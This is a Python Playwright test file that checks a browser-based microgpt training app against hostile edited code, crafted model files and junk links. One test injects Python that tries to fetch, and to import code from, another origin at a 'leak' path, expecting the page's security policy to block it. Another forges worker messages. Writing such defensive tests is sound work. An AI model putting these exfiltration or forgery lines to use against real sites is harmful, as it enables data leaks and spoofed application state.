"""What careless or hostile code, files and links do to the app (issue: never stuck, never fooled).
Each test plays one such user; the page must recover, say what happened, and trust only itself."""
import functools
import http.server
import json
import re
import threading
import urllib.request

from playwright.sync_api import expect

from tests.conftest import SOURCE
from tests.e2e.conftest import (ARTIFACTS, BOOT_TIMEOUT, console_text, press, run_to_end, screenshot, set_field,
                                wait_seen, wait_state)
from tests.e2e.firefox import firefox  # noqa: F401  (a fixture)

LOOP = 'for step in range(num_steps):\n'


def edit(page, text):
    """Edit mode, the whole source replaced by `text` (as pasting it would)."""
    page.get_by_role('button', name='Edit').click()
    page.get_by_role('textbox', name='microgpt.py source').fill(text)


def in_loop(statement):
    """microgpt.py with `statement` first in the training loop's body."""
    assert LOOP in SOURCE
    return SOURCE.replace(LOOP, LOOP + f'    {statement}\n', 1)


def test_stop_and_train_end_an_endless_loop_in_edited_code(open_app):
    page, recorder = open_app()
    edit(page, in_loop('while True: pass'))
    press(page, 'Train')
    wait_seen(page, 'training')
    expect(page.get_by_role('log', name='Console')).to_contain_text('num params')
    page.get_by_role('button', name='Stop').click()
    expect(page.locator('#status')).to_have_text('Stopping…')          # said at once
    log = page.get_by_role('log', name='Console')
    expect(log).to_contain_text('did not answer within a second', timeout=2000)
    wait_state(page, 'ready', BOOT_TIMEOUT)
    expect(log).to_contain_text('num params')                           # what was printed stays
    screenshot(page, 'hostile-endless-loop-stopped')

    # stuck again, then Train with the original code: the stuck worker is replaced and the new one trains
    press(page, 'Train')
    wait_seen(page, 'training')
    page.get_by_role('button', name='Reset code').click()
    set_field(page, 'num_steps', 3)
    run_to_end(page, timeout=BOOT_TIMEOUT * 2)
    expect(log).to_contain_text('step    3 /    3')
    assert recorder.errors == []


def test_stop_ends_an_endless_loop_in_firefox(firefox, base_url):  # noqa: F811  (the fixture)
    tab = firefox.new_tab()
    tab.navigate(base_url)
    tab.wait_state('ready', BOOT_TIMEOUT / 1000)
    tab.click_button('Edit')
    tab.evaluate(f"""(() => {{
        const box = document.querySelector('textarea[aria-label="microgpt.py source"]');
        box.value = {json.dumps(in_loop('while True: pass'))};
        box.dispatchEvent(new Event('input', {{bubbles: true}}));
    }})()""")
    tab.click_button('Train')
    tab.wait_state('training')
    tab.wait_for('document.querySelector("[role=log]").textContent.includes("num params")')
    tab.click_button('Stop')
    tab.wait_for('document.getElementById("status").textContent === "Stopping…"', timeout=1)   # by the next frame
    tab.wait_for('document.querySelector("[role=log]").textContent.includes("did not answer within a second")', timeout=2)
    tab.wait_state('ready', BOOT_TIMEOUT / 1000)
    tab.screenshot(ARTIFACTS / 'hostile-endless-loop-firefox.png')
    tab.close()


def test_a_long_start_says_it_is_running_and_stop_ends_it(open_app):
    page, recorder = open_app()
    edit(page, SOURCE.replace(LOOP, 'while True: pass\n' + LOOP, 1))
    press(page, 'Train')
    wait_seen(page, 'starting')
    expect(page.locator('#status')).to_contain_text('Still running the code before the training loop', timeout=10_000)
    expect(page.get_by_role('button', name='Stop')).to_be_enabled()
    screenshot(page, 'hostile-long-start')
    page.get_by_role('button', name='Stop').click()
    expect(page.get_by_role('log', name='Console')).to_contain_text('did not answer within a second', timeout=2000)
    wait_state(page, 'ready', BOOT_TIMEOUT)
    assert recorder.errors == []


def model_file(**changes):
    model = {'format': 'microgpt-viz model', 'version': 1, 'steps': 1,
             'config': {'n_embd': 16, 'n_head': 4, 'n_layer': 1, 'block_size': 8}, 'vocab_size': 3,
             'uchars': ['a', 'b'], 'data': None, 'weights': {'wte': [[0.0]]}}
    model.update(changes)
    return json.dumps(model)


def test_crafted_model_files_get_a_message_and_the_page_goes_on(open_app):
    page, recorder = open_app()
    page.get_by_role('tab', name='Runs').click()
    load = page.get_by_label('Load model')
    nested = model_file().replace('"steps": 1', '"steps": ' + '[' * 5000 + ']' * 5000)
    load.set_input_files({'name': 'nested.json', 'mimeType': 'application/json', 'buffer': nested.encode()})
    expect(page.get_by_role('alert')).to_contain_text('nested deeper')
    huge = model_file(uchars=[chr(0x10000 + i) for i in range(1_000_000)], vocab_size=1_000_001)
    load.set_input_files({'name': 'huge.json', 'mimeType': 'application/json', 'buffer': huge.encode()})
    expect(page.get_by_role('alert')).to_contain_text('1,000,000 characters')
    screenshot(page, 'hostile-model-file')
    set_field(page, 'num_steps', 2)
    run_to_end(page)
    page.get_by_role('tab', name='Training').click()
    assert 'step    2 /    2' in console_text(page)
    assert recorder.errors == []


# Long tasks of the page's main thread, from the moment this runs.
LONG_TASKS = """() => { window.__long = []; new PerformanceObserver((list) => {
    for (const e of list.getEntries()) window.__long.push(Math.round(e.duration)); }).observe({entryTypes: ['longtask']}); }"""


def test_a_flood_of_output_keeps_the_last_lines_and_the_page_responsive(open_app):
    page, recorder = open_app()
    edit(page, in_loop("for _ in range(200000): print('x' * 100)"))
    set_field(page, 'num_steps', 2)
    page.evaluate(LONG_TASKS)
    run_to_end(page, timeout=180_000)
    log = page.get_by_role('log', name='Console')
    expect(log).to_contain_text('earlier lines not shown')
    expect(log).to_contain_text('step    2 /    2')
    kept = page.evaluate('MGV.store.state.consoleLines.length')
    assert kept <= 5000, kept
    screenshot(page, 'hostile-flood')
    assert max(page.evaluate('window.__long'), default=0) <= 50, page.evaluate('window.__long')
    assert recorder.errors == []


def another_origin(folder, hits):
    """A server on another port (so another origin) that notes every request it gets."""
    class Noting(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args):
            hits.append(self.path)
    server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), functools.partial(Noting, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f'http://127.0.0.1:{server.server_address[1]}/', server


def test_code_cannot_reach_another_origin(open_app, tmp_path):
    (tmp_path / 'x.js').write_text('export default 1;\n')
    hits = []
    other, server = another_origin(tmp_path, hits)
    try:
        page, recorder = open_app()
        # the served worker is held to the page's policy by a header (a <meta> reaches only the page)
        worker_url = page.evaluate("new URL('app/worker.mjs', location.href).href")
        with urllib.request.urlopen(worker_url) as response:
            assert "connect-src 'self'" in response.headers['Content-Security-Policy']
        edit(page, in_loop('\n    '.join([
            'import js',
            f"js.fetch('{other}leak')",
            f"try: js.eval(\"import('{other}x.js')\")",      # the header's policy refuses eval itself
            'except Exception: pass',
            f"x = js.XMLHttpRequest.new(); x.open('GET', '{other}leak', False)"])))
        press(page, 'Train')
        expect(page.locator('#status')).to_contain_text('reach its own files only')
        page.get_by_role('button', name='Reset code').click()
        set_field(page, 'num_steps', 2)
        run_to_end(page)    # time for any request to have arrived
        assert hits == []
        assert not [u for u in recorder.requests if u.startswith(other)]
    finally:
        server.shutdown()


def test_messages_posted_by_python_are_not_trusted(open_app):
    page, recorder = open_app()
    forge = ("import js; from pyodide.ffi import to_js\n"
             "    for r in range(20): js.postMessage(to_js({'type': 'state', 'state': 'ready', 'run': r}, dict_converter=js.Object.fromEntries)); "
             "js.postMessage(to_js({'type': 'lines', 'lines': ['FORGED'], 'run': r}, dict_converter=js.Object.fromEntries)); "
             "js.postMessage(to_js({'type': 'error', 'message': 'FORGED', 'run': r}, dict_converter=js.Object.fromEntries))")
    edit(page, in_loop(forge))
    set_field(page, 'num_steps', 3)
    run_to_end(page)
    seen = page.evaluate('document.body.dataset.seen').split()
    assert seen.count('ready') == 1 and seen[-1] == 'ready', seen     # never "ready" mid-run
    assert 'FORGED' not in console_text(page)
    expect(page.get_by_role('log', name='Console')).to_contain_text('step    3 /    3')
    assert recorder.errors == []


def test_errors_that_are_not_numbers_blowing_up_tell_their_own_type(open_app):
    page, _ = open_app()
    for statement, shown in [('x = 1 / 0', r'ZeroDivisionError: division by zero'),
                             ('x = [0] * 10**10', r'(OverflowError|MemoryError)')]:
        edit(page, in_loop(statement))
        press(page, 'Train')
        wait_state(page, 'error')
        text = page.locator('#status').text_content()
        assert re.search(shown, text) and 'blew up' not in text and 'learning_rate' not in text, text
        page.get_by_role('button', name='Reset code').click()


def test_a_link_with_thousands_of_unknown_keys_makes_one_note(open_app, base_url):
    keys = '&'.join(f'junk{i}=1' for i in range(12_000))
    page, _ = open_app(url=f'{base_url}#n_embd=16&{keys}')
    problems = page.get_by_role('list', name='Link problems').get_by_role('listitem')
    expect(problems).to_have_count(1)
    expect(problems).to_contain_text('12,000 unknown keys in the link were ignored')


def test_a_worker_that_exits_is_replaced_without_page_errors(open_app):
    page, recorder = open_app()
    edit(page, SOURCE.replace(LOOP, 'import os; os._exit(0)\n' + LOOP, 1))
    press(page, 'Train')
    log = page.get_by_role('log', name='Console')
    expect(log).to_contain_text('A new one is starting', timeout=30_000)
    wait_state(page, 'ready', BOOT_TIMEOUT)
    assert recorder.errors == [], recorder.errors


def test_two_tabs_started_in_the_same_millisecond_both_start(browser, base_url):
    context = browser.new_context()
    context.add_init_script('Date.now = () => 1700000000000;')    # the same clock for both
    try:
        pages = [context.new_page() for _ in range(2)]
        for page in pages:
            page.goto(base_url, wait_until='commit')
        for page in pages:
            wait_state(page, 'ready', BOOT_TIMEOUT)
    finally:
        context.close()


def test_storage_that_refuses_is_said_to_be_unavailable(browser, base_url):
    context = browser.new_context()
    context.add_init_script("Storage.prototype.getItem = () => { throw new DOMException('denied', 'SecurityError'); };")
    try:
        page = context.new_page()
        page.goto(base_url)
        wait_state(page, 'ready', BOOT_TIMEOUT)
        log = page.get_by_role('log', name='Console')
        expect(log).to_contain_text('does not let the page use its storage')
        assert 'another version' not in console_text(page)
    finally:
        context.close()


def test_a_fatal_python_error_replaces_the_worker_with_a_message(open_app):
    page, recorder = open_app()
    # Pyodide's own switch for "this interpreter is broken for good", reached from edited code
    edit(page, SOURCE.replace(LOOP, "import js, pyodide_js; pyodide_js._api.fatal_error(js.Error.new('broken on purpose'))\n" + LOOP, 1))
    press(page, 'Train')
    log = page.get_by_role('log', name='Console')
    expect(log).to_contain_text('Python stopped working', timeout=30_000)
    wait_state(page, 'ready', BOOT_TIMEOUT)
    page.get_by_role('button', name='Reset code').click()
    set_field(page, 'num_steps', 2)
    run_to_end(page)
    assert 'step    2 /    2' in console_text(page)
